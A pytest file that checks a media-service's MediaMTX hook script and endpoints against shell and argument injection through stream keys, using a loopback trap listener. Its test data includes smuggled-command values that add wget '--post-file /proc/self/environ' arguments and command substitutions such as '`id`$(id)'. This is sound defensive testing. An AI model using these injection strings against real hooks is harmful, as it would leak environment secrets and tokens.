"""MediaMTX hooks: the real MediaMTX (deploy/mediamtx/mediamtx.yml) calling a real media-service.

Issue 22 #3: up to 1.18.0 MediaMTX pastes $MTX_QUERY into the hook command before splitting it, so a
stream key with a quote stopped the stream from starting and a quote and a space added wget
arguments. The hook command names no variable; deploy/mediamtx/livedub-hook.sh posts the query as
one argument with the hook-only token. Here hostile stream keys go through the real MediaMTX: the
stream still starts with the languages its key asks for, and a loopback listener named in the key
receives nothing. The hook token opens the hooks and nothing else; the body forms media-service
reads (the raw query, MediaMTX >= 1.18.1's escaped one, the older JSON) are checked directly.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import urllib.error
import urllib.request
from urllib.parse import quote_plus

import pytest
from livedub_testkit.loopback_http import LoopbackHttpServer, QuietHandler
from livedub_testkit.mediamtx import HOOK_SCRIPT, MEDIA_USER, MISSING, MediaMtxServer, find_mediamtx
from livedub_testkit.polling import wait_for
from livedub_testkit.services import MediaProcess, free_port

pytestmark = pytest.mark.timeout(180)

PUBLISHER = "studio-a"


class Trap:
    """A loopback HTTP listener that records every request (nothing may reach it)."""

    def __init__(self):
        self.requests: list[tuple[str, str, bytes, str]] = []
        trap = self

        class Handler(QuietHandler):
            def _record(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                trap.requests.append((self.command, self.path, body, self.headers.get("Authorization", "")))
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST = do_PUT = _record  # noqa: N815 (http.server's names)

        self.http = LoopbackHttpServer(Handler)
        self.url = self.http.url

    def close(self):
        self.http.close()


@pytest.fixture(scope="module")
def trap():
    t = Trap()
    yield t
    t.close()


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    """media-service (its STS unreachable: starting streams is all this needs) behind the real MediaMTX."""
    if find_mediamtx() is None:
        pytest.skip(MISSING)
    work = tmp_path_factory.mktemp("mediamtx-hooks")
    hook_token, port = secrets.token_urlsafe(24), free_port()
    mtx = MediaMtxServer(hook_url=f"http://127.0.0.1:{port}/v1/hooks/mediamtx", hook_token=hook_token,
                         publishers={PUBLISHER: secrets.token_hex(24)}, workdir=work / "mediamtx")
    media = MediaProcess("--rtmp-base-url", mtx.base_url, "--input-wait-timeout", "30",
                         sts_url="http://127.0.0.1:9", sts_token="sts-token-for-this-test", port=port,
                         env={"MEDIA_HOOK_TOKEN": hook_token, "MEDIA_RTMP_USER": MEDIA_USER,
                              "MEDIA_RTMP_PASS": mtx.media_pass}, log_dir=work)
    mtx.start()
    try:
        media.start(wait=60)
        media.hook_token = hook_token
        yield mtx, media
    finally:
        media.stop()
        mtx.stop()


def publish(mtx: MediaMtxServer, query: str, seconds: float) -> subprocess.CompletedProcess:
    """A short live A/V publish (ffmpeg test sources) to live/studio-a/in with `query` after the
    broadcaster's credentials. The stream key goes as -rtmp_playpath, sent as it is: in a URL,
    ffmpeg would cut it at the first space."""
    user_query = mtx.publish_url(f"{PUBLISHER}/in").split("?", 1)[1]
    cmd = ["ffmpeg", "-hide_banner", "-nostdin", "-loglevel", "error", "-re",
           "-f", "lavfi", "-i", "testsrc=size=160x120:rate=15", "-f", "lavfi", "-i", "sine=frequency=440",
           "-t", str(seconds), "-c:v", "libx264", "-preset", "ultrafast", "-g", "15", "-c:a", "aac",
           "-f", "flv", "-rtmp_app", f"live/{PUBLISHER}", "-rtmp_playpath", f"in?{user_query}&{query}",
           mtx.url(f"{PUBLISHER}/in")]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=seconds + 30)


def events(media, kind: str) -> list[dict]:
    return [e for e in media.api("GET", f"/v1/events?stream={PUBLISHER}")[1]["events"] if e["type"] == kind]


HOSTILE_QUERIES = {
    "quote": "lang=ca&x='",
    "quote, space, another URL": "lang=ca&x=' {trap}/stolen-token '",
    "quote, space, extra wget options": "lang=ca&x=' --post-file /proc/self/environ {trap}/environ '",
    "double quote, variables, command substitution": 'lang=ca&x="$MEDIA_HOOK_TOKEN`id`$(id)',
}


@pytest.mark.slow  # a real MediaMTX publish per key, about 3 s each
@pytest.mark.parametrize("query", HOSTILE_QUERIES.values(), ids=HOSTILE_QUERIES.keys())
def test_a_hostile_stream_key_starts_its_stream_and_reaches_nothing_else(stack, trap, query):
    mtx, media = stack
    query = query.format(trap=trap.url)
    published, unpublished = len(events(media, "hook_publish")), len(events(media, "hook_unpublish"))
    try:
        proc = publish(mtx, query, seconds=3)
        assert proc.returncode == 0, proc.stderr
        # runOnReady ran and the whole query arrived: lang=ca chose the language, the rest is ignored
        snap = wait_for(lambda: (s := media.api("GET", f"/v1/streams/{PUBLISHER}"))[0] == 200 and s[1],
                        f"the ready hook started no stream:\n{mtx.logs(3000)}")
        assert snap["target_languages"] == ["ca"], snap
        assert len(events(media, "hook_publish")) == published + 1
        wait_for(lambda: len(events(media, "hook_unpublish")) > unpublished,
                 f"runOnNotReady never arrived:\n{mtx.logs(3000)}")
        assert trap.requests == [], "MediaMTX's hook requested something else"
        logs = mtx.logs(20000)
        assert "exited with code" not in logs and "Unterminated" not in logs, logs
    finally:
        media.api("DELETE", f"/v1/streams/{PUBLISHER}")
        wait_for(lambda: media.api("GET", f"/v1/streams/{PUBLISHER}")[0] == 404, "stream removed")


def hook_post(media, path: str, data: bytes, content_type: str, token: str | None = None) -> tuple[int, dict]:
    req = urllib.request.Request(media.url + path, data=data, method="POST", headers={
        "Content-Type": content_type, "Authorization": f"Bearer {token or media.api_token}"})
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status, json.loads(resp.read())
    except urllib.error.HTTPError as exc:
        return exc.code, json.loads(exc.read())


def request(media, method: str, path: str, token: str, body: dict | None = None) -> int:
    data = json.dumps(body).encode() if body is not None else None
    req = urllib.request.Request(media.url + path, data=data, method=method, headers={
        "Content-Type": "application/json", "Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status
    except urllib.error.HTTPError as exc:
        return exc.code


def test_the_hook_token_opens_the_hooks_and_nothing_else(stack):
    _, media = stack
    status, answer = hook_post(media, "/v1/hooks/mediamtx/ready?path=live/tokened/in", b"lang=es",
                               "application/x-www-form-urlencoded", token=media.hook_token)
    try:
        assert status == 200 and answer == {"id": "tokened", "created": True}, answer
        for method, path, body in (("GET", "/v1/streams", None), ("GET", "/v1/streams/tokened", None),
                                   ("DELETE", "/v1/streams/tokened", None),
                                   ("POST", "/v1/streams", {"input_url": "rtmp://127.0.0.1:1/live/x/in",
                                                            "output_url": "rtmp://127.0.0.1:1/live/x/out"})):
            assert request(media, method, path, media.hook_token, body) == 403, (method, path)
        assert request(media, "GET", "/v1/streams", "not-the-token-at-all") == 401
    finally:
        media.api("DELETE", "/v1/streams/tokened")


def test_raw_query_body_cannot_name_another_stream(stack):
    _, media = stack
    query = 'lang=es&user=publisher&pass=secret","path":"live/other/in'
    status, answer = hook_post(media, "/v1/hooks/mediamtx/ready?path=live/demo/in", query.encode(),
                               "application/x-www-form-urlencoded")
    try:
        assert status == 200 and answer == {"id": "demo", "created": True}, answer
        streams = {s["id"]: s for s in media.api("GET", "/v1/streams")[1]["streams"]}
        assert "other" not in streams and streams["demo"]["target_languages"] == ["es"], streams
        assert "secret" not in json.dumps(streams), "the publisher's password must not be shown"
        status, answer = hook_post(media, "/v1/hooks/mediamtx/not-ready?path=live/demo/in", query.encode(),
                                   "application/x-www-form-urlencoded")
        assert status == 200, answer
    finally:
        media.api("DELETE", "/v1/streams/demo")


def test_the_escaped_query_of_newer_mediamtx_is_read(stack):
    """From 1.18.1 MediaMTX passes MTX_QUERY URL-escaped as a whole."""
    _, media = stack
    query = quote_plus("lang=ca,es&user=studio-a&pass=secret&x=' a")
    status, answer = hook_post(media, "/v1/hooks/mediamtx/ready?path=live/escaped/in", query.encode(),
                               "application/x-www-form-urlencoded")
    try:
        assert status == 200 and answer["id"] == "escaped", answer
        assert media.api("GET", "/v1/streams/escaped")[1]["target_languages"] == ["ca", "es"]
    finally:
        media.api("DELETE", "/v1/streams/escaped")


def test_json_body_still_served_and_duplicate_keys_refused(stack):
    _, media = stack
    status, answer = hook_post(media, "/v1/hooks/mediamtx/ready",
                               b'{"path": "live/old/in", "query": "lang=ca"}', "application/json")
    try:
        assert status == 200 and answer == {"id": "old", "created": True}, answer
        assert media.api("GET", "/v1/streams/old")[1]["target_languages"] == ["ca"]
    finally:
        media.api("DELETE", "/v1/streams/old")
    status, answer = hook_post(media, "/v1/hooks/mediamtx/ready",
                               b'{"path": "live/a/in", "query": "x", "path": "live/b/in"}', "application/json")
    assert status == 400 and answer["error"]["code"] == "invalid_json", answer
    assert "duplicate key 'path'" in answer["error"]["message"], answer


# ------------------------------------------------------------------ the hook script alone
def _wget_flavours(tmp_path) -> dict[str, dict[str, str]]:
    """PATH settings that make the script run GNU wget + coreutils, or busybox's applets (the
    MediaMTX -ffmpeg image is Alpine: busybox sh, timeout and wget)."""
    flavours = {}
    if shutil.which("wget"):
        flavours["gnu"] = {"PATH": os.environ["PATH"]}
    busybox = shutil.which("busybox")
    if busybox:
        bin_dir = tmp_path / "busybox-bin"
        bin_dir.mkdir()
        for applet in ("sh", "timeout", "wget"):
            (bin_dir / applet).symlink_to(busybox)
        flavours["busybox"] = {"PATH": f"{bin_dir}"}
    return flavours


@pytest.mark.parametrize("flavour", ["gnu", "busybox"])
def test_hook_script_posts_the_query_as_it_is(tmp_path, trap, flavour):
    env = _wget_flavours(tmp_path).get(flavour)
    if env is None:
        pytest.skip(f"{'wget' if flavour == 'gnu' else 'busybox'} is not installed (make setup installs it)")
    query = "lang=es&x=' --post-file /proc/self/environ http://127.0.0.1:9/ '&y=\"$HOME`id`"
    base = {**env, "MEDIA_HOOK_URL": f"{trap.url}/v1/hooks/mediamtx", "MEDIA_HOOK_TOKEN": "hook-token-of-this-test",
            "MTX_PATH": "live/demo/in", "MTX_QUERY": query}
    before = len(trap.requests)
    for verb in ("ready", "not-ready"):
        proc = subprocess.run(["sh", str(HOOK_SCRIPT), verb], env=base, capture_output=True, text=True, timeout=30)
        assert proc.returncode == 0, proc.stderr
    assert trap.requests[before:] == [
        ("POST", f"/v1/hooks/mediamtx/{verb}?path=live/demo/in", query.encode(), "Bearer hook-token-of-this-test")
        for verb in ("ready", "not-ready")]
    proc = subprocess.run(["sh", str(HOOK_SCRIPT), "--post-file"], env=base, capture_output=True, text=True,
                          timeout=30)
    assert proc.returncode == 2 and "usage" in proc.stderr
    del trap.requests[before:]
